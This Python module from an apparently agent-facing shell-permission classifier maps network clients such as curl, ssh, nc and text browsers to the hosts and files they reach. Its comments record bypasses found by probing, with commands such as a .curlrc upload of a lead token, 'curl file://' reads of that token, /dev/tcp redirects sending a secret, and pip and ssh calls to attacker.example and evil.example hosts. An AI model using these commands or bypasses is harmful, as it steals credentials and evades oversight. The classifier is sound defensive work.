"""Classify network clients: HTTP clients (``curl``, ``wget``, httpie, ``aria2c``) and
remote shells and copies (``ssh``, ``scp``, ``rsync``, ``nc``...): the hosts they reach,
the Unix sockets they connect to, the local files a copy reads; a ``file:`` URL's path;
the local files an HTTP client's options name (:mod:`~.shell_http_files`) and the local
commands a remote client runs (:mod:`~.shell_local_commands`); the hosts of the URLs any
other program is given (:func:`url_hosts`). DNS lookups and probes: :mod:`~.shell_lookups`.

>>> from exomonad.policy.shell_lex import Word
>>> http_client("curl", [Word(t) for t in "-sS --unix-socket s http://h/x".split()], "/w")
[WriteFile(path='/w/s'), Network(host='h')]
>>> remote_client("ssh", [Word("-p"), Word("22"), Word("git@example.com")], "/w")
[Network(host='example.com')]
"""

from __future__ import annotations

import re
from collections.abc import Sequence

from exomonad.policy.actions import Action, Network, ReadFile, Shell, Unknown, WriteFile
from exomonad.policy.file_urls import (
    FILE_URL,
    before_pattern,
    file_url_actions,
    file_url_path,
)
from exomonad.policy.hosts import host_of
from exomonad.policy.shell_containers import engine_contexts, engine_hosts, registry_hosts
from exomonad.policy.shell_env import Options, ShellEnv, scan_options
from exomonad.policy.shell_http_files import (
    ARIA2_WITH_ARG,
    CURL_WITH_ARG,
    HTTPIE_WITH_ARG,
    WGET_WITH_ARG,
    curl_globbing,
    globbed,
    http_files,
)
from exomonad.policy.shell_lex import Word
from exomonad.policy.shell_local_commands import (
    LOCAL_COMMAND_OPTIONS,
    local_commands,
    ssh_files,
    ssh_keyword,
)
from exomonad.policy.shell_parse import SimpleCommand
from exomonad.policy.shell_paths import resolve_path
from exomonad.policy.shell_proxies import assigned_proxies, option_routes, proxy_words
from exomonad.policy.shell_reads import flags, option_set, tree_root

__all__ = [
    "BROWSERS",
    "CLIENT_ALIASES",
    "HTTP_CLIENTS",
    "REMOTE_CLIENTS",
    "bash_socket",
    "configured_client",
    "http_client",
    "named_hosts",
    "note_client_settings",
    "remote_client",
    "sets_client_config",
    "url_hosts",
]

#: The programs each handler reads.
HTTP_CLIENTS = ("curl", "wget", "http", "https", "xh", "aria2c")
#: Variables naming where an HTTP client finds its configuration, which may name any
#: file it reads or writes: curl's ``$CURL_HOME``, ``$XDG_CONFIG_HOME``, ``$HOME/.curlrc``;
#: ``WGETRC``, ``SYSTEM_WGETRC``, ``~/.wgetrc``; aria2c's ``~/.aria2/aria2.conf``;
#: ``HTTPIE_CONFIG_DIR``, ``XH_CONFIG_DIR`` (their default options). Found probing:
#: ``HOME=. curl file://<worktree>/s`` with a ``.curlrc`` the worker wrote saying
#: ``upload-file = "../../.exomonad/lead.token"`` copied the token, allowed.
_CONFIG_NAMES = (
    "HOME|XDG_CONFIG_HOME|CURL_HOME|WGETRC|SYSTEM_WGETRC|HTTPIE_CONFIG_DIR|XH_CONFIG_DIR"
)
_CONFIG_SET = re.compile(rf"(?<![A-Za-z0-9_])(?:{_CONFIG_NAMES})\+?=")
_CONFIG_NAMED = re.compile(rf"(?<![A-Za-z0-9_])(?:{_CONFIG_NAMES})(?![A-Za-z0-9_])")
#: Builtins that set the variables they name (``declare -n r=HOME`` makes ``r=.`` set
#: HOME), or one named only at run time.
_SETTERS = frozenset({"declare", "typeset", "export", "readonly", "local", "read", "mapfile",
                      "readarray", "-v"})  # fmt: skip


def sets_client_config(words: tuple[Word, ...] | list[Word]) -> bool:
    """Whether a command of ``words`` may point an HTTP client (or git) at a
    configuration of the worker's: it assigns a variable of :data:`_CONFIG_SET` anywhere (before a
    command, alone: ``HOME`` is exported, so ``HOME=.; curl`` reads ``./.curlrc`` too;
    through ``export``, ``env``, ``eval``'s text), or a setter builtin (``printf -v``)
    names one or a variable known only at run time (``export "$v=."``).

    >>> sets_client_config([Word("HOME=."), Word("curl")]), sets_client_config([Word("MYHOME=.")])
    (True, False)
    >>> sets_client_config([Word("declare"), Word("-n"), Word("r=HOME")])
    True
    """
    if any(_CONFIG_SET.search(w.text) for w in words):
        return True
    if not any(w.text in _SETTERS for w in words):
        return False
    return any(w.dynamic or _CONFIG_NAMED.search(w.text) for w in words)


def note_client_settings(commands: Sequence[SimpleCommand], env: ShellEnv) -> list[Action]:
    """What the line sets for the network clients on it: a configuration they may read
    (``HOME=.``, noted in ``env``); and, returned, network access to the proxies and
    package indexes it assigns (``https_proxy=h``, ``PIP_INDEX_URL=URL``): any command of
    the line may send its traffic there (found probing: ``curl -x``'s question named the
    URL's host only; ``PIP_PROXY=h pip install x`` was allowed)."""
    env.client_config = env.client_config or any(sets_client_config(c.words) for c in commands)
    return list(dict.fromkeys(p for c in commands for p in assigned_proxies(c.words)))


def configured_client(name: str, full: tuple[str, ...]) -> Unknown:
    """An HTTP client (or git, whose ``~/.gitconfig`` may reroute a remote) run where
    :func:`sets_client_config` held for the command line."""
    return Unknown(f"{name} reads a configuration a variable set here points to: "
                   f"{' '.join(full)}")  # fmt: skip


#: Other names of the remote clients (found probing: each was allowed outright, and
#: ``slogin -o ProxyCommand=CMD h`` ran CMD): Debian's ``slogin`` (a link to ssh),
#: ``autossh`` (ssh, restarted; ``-M PORT`` is its own), netcat's packages' names.
CLIENT_ALIASES = {"slogin": "ssh", "autossh": "ssh", "netcat": "nc", "nc.openbsd": "nc",
                  "nc.traditional": "nc", "telnet.netkit": "telnet",
                  "inetutils-telnet": "telnet"}  # fmt: skip
REMOTE_CLIENTS = ("ssh", "scp", "sftp", "rsync", "nc", "ncat", "telnet", "mosh", "dbclient",
                  *CLIENT_ALIASES)  # fmt: skip

_SSH_WITH_ARG = option_set(
    f"-b -c -D -E -e -F -I -i -J -L -l -m -O -o -p -Q -R -S -W -w -P {LOCAL_COMMAND_OPTIONS}"
)
_AUTOSSH_WITH_ARG = _SSH_WITH_ARG | {"-M"}
_NC_WITH_ARG = option_set(f"-p -s -w -i -x -X -q -e -c {LOCAL_COMMAND_OPTIONS}")
#: Options naming a Unix socket to connect to (``curl``/``xh``; ``nc -U``/``ncat
#: --unixsock``: the host).
_CURL_SOCKET = "--unix-socket"
_METHODS = frozenset({"GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS"})
_NC_SOCKET = ("U", "--unixsock")


#: A URL anywhere in a word: its scheme and the rest up to where its host ends. The
#: scheme's length is bounded (schemes are short): unbounded, every word start of a long
#: ``a.a.a...`` word rescanned the rest of it, 20 s for one 100 KB argument.
_URL_IN = re.compile(r"\b([A-Za-z][A-Za-z0-9+.-]{0,31})://[^\s'\"`/?#)]*")


def url_hosts(words: list[Word]) -> list[Action]:
    """Network access to the host of each URL in ``words`` (not ``file:``; ``$H`` in a
    host: one known only at run time), once each. For programs whose network use is not
    modelled: a URL they are given is a host they reach (found probing: ``pip install -i
    https://attacker.example/simple x``, ``xdg-open URL``, ``w3m``, ``chromium
    --headless URL``, ``node -e "fetch('URL')"`` were allowed, ``curl`` to the same host
    is asked).

    >>> url_hosts([Word("--index-url=https://h.example/simple"), Word("x")])
    [Network(host='h.example')]
    """
    found: dict[Action, None] = {}  # once each, in order (a list's `in` was quadratic:
    for w in words:  # 20000 URLs took 50 s of the server's time)
        if "://" not in w.text:
            continue
        for match in _URL_IN.finditer(w.text):
            if match.group(1).lower() == "file":
                continue
            text = match.group(0)
            found[Network(None if "$" in text or "`" in text else host_of(text))] = None
    return list(found)


#: Programs that browse or fetch what they are given, a bare host too (``lynx -dump
#: evil.example``, ``w3m evil.example``, ``lwp-request -m POST evil.example``: found
#: probing, each allowed): text browsers, libwww-perl's clients. And ``rclone``, whose
#: remotes (``remote:bucket``) are hosts its configuration names.
BROWSERS = frozenset({"lynx", "w3m", "links", "links2", "elinks", "browsh", "lwp-request",
                      "lwp-download", "lwp-mirror", "GET", "HEAD", "POST"})  # fmt: skip
_BROWSER_WITH_ARG = {
    "w3m": option_set("-t -l -I -O -T -o -config -cols -ppc -ppl -bookmark -post -header"),
    **dict.fromkeys(("lwp-request", "GET", "HEAD", "POST"),
                    option_set("-m -b -t -i -o -C -p -H -c")),
}  # fmt: skip
#: How a browser's operand that names a local file starts.
_LOCAL_STARTS = ("/", "./", "../", "~", "file:")
#: rclone's verbs that reach no remote.
_RCLONE_LOCAL = frozenset({"version", "help", "listremotes", "obscure", "genautocomplete",
                           "completion", "gendocs"})  # fmt: skip


def named_hosts(name: str, args: list[Word], cwd: str | None) -> list[Action]:
    """What a program the classifier does not model otherwise reaches: the host of each
    URL it is given (:func:`url_hosts`) and of each proxy its options name; for a
    browser, each host it is given, scheme or not (a local path names none; none named:
    its start page, an unknown host); for rclone, its remotes (unknown hosts); for a
    container engine, the engine its ``-H`` names (a ``unix://`` one: a write of the
    socket), or an unknown host for a context other than ``default`` (``--context``,
    ``--connection``, ``--config``)."""
    found = url_hosts(args)
    more: list[Action] = [*proxy_words(args)]
    if name in BROWSERS:
        operands, _ = scan_options(args, _BROWSER_WITH_ARG.get(name, frozenset()))
        named = [w for w in operands if w.dynamic or not w.text.startswith(_LOCAL_STARTS)]
        local = len(named) < len(operands)
        more = [Network(None if w.dynamic else host_of(w.text)) for w in named]
        more += [] if more or local else [Network(None)]
    elif name == "rclone":
        verb = next((w for w in args if not w.text.startswith("-")), None)
        if verb is None or verb.dynamic or verb.text not in _RCLONE_LOCAL:
            more = [Network(None)]
    for engine in engine_hosts(name, args):
        path = None if engine.dynamic else engine.text
        if path is not None and path.startswith("unix://"):
            more += _sockets([Word(path[len("unix://") :])], cwd)
        else:
            more.append(Network(None if engine.dynamic else host_of(engine.text)))
    more += [Network(None)] if engine_contexts(name, args) else []  # a stored engine
    more += [Network(host_of(r) if r else None) for r in registry_hosts(name, args)]
    return list(dict.fromkeys([*found, *more]))  # once each, in order


def _hosts(
    urls: list[Word], uploads: bool = False, globbing: bool = False, default: str | None = None
) -> list[Action]:
    """The host each URL reaches; a ``file:`` URL is a read of its path, or with an
    upload (``curl -T``) a write: found probing, ``curl file:///p/.exomonad/lead.token``
    printed the token, asked as "network access to <unknown host>", and ``curl -T x
    file:///p/.exomonad/y`` wrote there. A ``file:`` URL curl's globbing expands
    (``globbing``) is :class:`Unknown`: ``curl -T up.txt 'file://<worktree>/{x}/../../../
    Makefile'`` overwrote the lead's file, allowed as a write in the worktree. With
    ``--proto-default file`` (``default``), a URL without a scheme is a ``file:`` one."""
    out: list[Action] = []
    for w in urls:
        text = w.text
        if default is not None and "://" not in text and FILE_URL.fullmatch(text) is None:
            if default != "file" and not default.isalnum():  # --proto-default "$P"
                out.append(Unknown(f"curl reads {text} by a protocol named at run time"))
                continue
            if default == "file":  # curl --proto-default file /p/.exomonad/lead.token
                if w.dynamic or not text.startswith("/"):
                    out.append(Unknown(f"curl reads {text} as a file: URL"))
                    continue
                text = "file://" + text
        path = None if w.dynamic else file_url_path(text)
        if path is None and w.dynamic and text[:5].lower() == "file:":
            out.append(Unknown(f"curl opens a file: URL known only at run time: {text}"))
        elif path is None:
            out.append(Network(None if w.dynamic else host_of(text)))
        elif globbing and globbed(text):
            out.append(Unknown(f"curl expands the pattern in {text} (add -g to read it as is)"))
            tree = before_pattern(text)
            out.append(WriteFile(tree) if uploads else ReadFile(tree, recursive=True))
        else:
            out += file_url_actions(text, WriteFile if uploads else ReadFile, curl=True)
    return out


def _sockets(paths: list[Word], cwd: str | None) -> list[Action]:
    """Connecting to a Unix socket writes to it, as ``socat UNIX-CONNECT:`` does: judged
    as a write of its path (the server's socket is in ``.exomonad/``; found probing,
    ``curl --unix-socket ../../.exomonad/server.sock`` was asked as "network access to
    <unknown host>"). The network stays: what listens there may reach anywhere."""
    return [WriteFile(None if w.dynamic else resolve_path(cwd, w)) for w in paths]


def http_client(name: str, args: list[Word], cwd: str | None) -> list[Action] | None:
    """An HTTP client's hosts (one unknown host when none is readable) and the proxies
    and addresses its options send them through (:mod:`~.shell_proxies`), after the Unix
    sockets ``curl`` and ``xh`` connect to and the local files it reads and writes
    (:mod:`~exomonad.policy.shell_http_files`)."""
    with_arg = {
        "wget": WGET_WITH_ARG,
        "aria2c": ARIA2_WITH_ARG,
        "http": HTTPIE_WITH_ARG,
        "https": HTTPIE_WITH_ARG,
        "xh": HTTPIE_WITH_ARG,
    }.get(name, CURL_WITH_ARG)
    positionals, opts = scan_options(args, with_arg)
    urls = [w for w in opts.get("--url", []) if w is not None] + positionals
    sockets = [w for w in opts.get(_CURL_SOCKET, []) if w is not None and name in ("curl", "xh")]
    items: list[Word] = []
    if name in ("http", "https", "xh"):  # httpie: [METHOD] URL [items]
        rest = (
            positionals[1:]
            if positionals and positionals[0].text.upper() in _METHODS
            else positionals
        )
        urls, items = rest[:1], rest[1:]
    uploads = any(opts.get(o) for o in ("-T", "--upload-file")) and name == "curl"
    globbing = name == "curl" and curl_globbing(opts)
    default = None
    if name == "curl":
        given = [w for w in opts.get("--proto-default", []) if w is not None]
        default = (given[-1].text.lower() if not given[-1].dynamic else "$") if given else None
    files = http_files(name, items, opts, cwd)
    hosts = _hosts(urls, uploads, globbing, default) or [Network(None)]
    return _sockets(sockets, cwd) + files + hosts + option_routes(name, opts)


def _other_hosts(own: str, opts: Options) -> list[Action]:
    """The hosts a client reaches besides the one it is given: ssh's jump hosts (``-J``,
    ``ProxyJump``), the ``HostName`` an ``-o`` puts in place of the host named (found
    probing: ``ssh -o HostName=evil.example h`` was asked as network access to h), nc's
    proxy (``-x``)."""
    named: list[Word] = []
    if own == "ssh":
        named += [w for w in opts.get("-J", []) if w is not None]
    if own in ("ssh", "scp", "sftp"):
        for w in opts.get("-o", []):
            keyword, rest = ("", "") if w is None or w.dynamic else ssh_keyword(w.text.strip())
            if keyword in ("hostname", "proxyjump"):
                named.append(Word(rest.strip()))
    if own == "nc":
        named += [w for w in opts.get("-x", []) if w is not None]
    return [Network(None if w.dynamic else host_of(one)) for w in named
            for one in w.text.split(",") if one.lower() != "none"]  # fmt: skip


def remote_client(name: str, args: list[Word], cwd: str | None) -> list[Action] | None:
    """A remote shell's or copy's host; a copy's local sources (or, for a copy with no
    remote side, the command itself); the socket ``nc -U`` connects to; first, the
    local commands it runs on the way (:mod:`~exomonad.policy.shell_local_commands`)."""
    own = CLIENT_ALIASES.get(name, name)
    with_arg = _NC_WITH_ARG if own in ("nc", "ncat", "telnet") else _SSH_WITH_ARG
    positionals, opts = scan_options(args, _AUTOSSH_WITH_ARG if name == "autossh" else with_arg)
    ran = local_commands(own, opts, name) + ssh_files(own, opts, cwd)
    ran += _other_hosts(own, opts)
    if name in ("scp", "rsync", "sftp"):
        remote = [
            w
            for w in positionals
            if w.dynamic
            or "://" in w.text
            or (":" in w.text and not w.text.startswith(("/", "./")))
        ]
        if name == "sftp" and not remote:  # sftp [user@]host: found allowed, unasked
            remote = positionals[:1]
        out: list[Action] = [
            Network(
                None
                if w.dynamic
                else host_of(w.text.split(":", 1)[0] if "://" not in w.text else w.text)
            )
            for w in remote
        ]
        whole = flags(opts, "r" if name == "scp" else "ra", "--recursive", "--archive") > 0
        reads: list[Action] = [ReadFile(tree_root(cwd, w), whole) for w in positionals[:-1]
                               if w not in remote]  # fmt: skip
        if not out and reads:  # a local copy: the command as it is, and what it reads
            out = [Shell((name, *(w.text for w in args)), cwd)]
        return ran + out + reads or None
    if own in ("nc", "ncat") and flags(opts, *_NC_SOCKET):  # the socket is the host
        return [*ran, *_sockets(positionals[:1], cwd), Network(None)]
    return ran + (_hosts(positionals[:1]) or [Network(None)])


def bash_socket(target: Word, cwd: str | None) -> Network | None:
    """The connection a redirection to bash's ``/dev/tcp/HOST/PORT`` or ``/dev/udp/...``
    opens (either direction: the socket reads and writes whatever ``<`` says; found
    probing, ``exec 3</dev/tcp/HOST/80; echo secret >&3`` sent the secret, allowed as a
    read). Judged where the path lands too (``cd /dev && cat <tcp/h/80``: stricter than
    bash, which reads only the literal name), any expansion in the host unknown.

    >>> bash_socket(Word("/dev/tcp/Example.com/80"), "/w"), bash_socket(Word("x"), "/w")
    (Network(host='example.com'), None)
    """
    path = target.text if target.dynamic else resolve_path(cwd, target) or target.text
    for kind in ("/dev/tcp/", "/dev/udp/"):
        if path.startswith(kind):
            host = path[len(kind) :].split("/", 1)[0]
            return Network(None if target.dynamic and "$" in host else host.lower() or None)
    return None
